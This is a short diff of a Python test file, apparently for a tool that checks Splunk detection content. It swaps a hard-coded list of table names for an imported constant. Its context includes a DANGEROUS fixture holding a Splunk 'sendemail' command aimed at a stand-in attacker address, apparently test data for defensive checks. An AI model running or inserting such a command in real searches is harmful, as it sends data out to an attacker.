@@ -19,9 +19,10 @@ import pytest
 from devtools.commands import sync as sync_command
 from malicious_image.content.yaml_safe import MAX_BYTES, MAX_DEPTH
 from malicious_image.sync.csv_writer import read_csv
+from malicious_image.sync.tables import TABLE_NAMES
 from tests import hostile_archives as H
 
-TABLES = ("detections", "techniques", "tactics", "stories", "macros")
+TABLES = TABLE_NAMES
 BASE_NAMES = {"Hostile Base 1", "Hostile Base 2", "Hostile Base 3"}
 DANGEROUS = (
     '| sendemail to="attacker@example.com" server=mail.example.com',
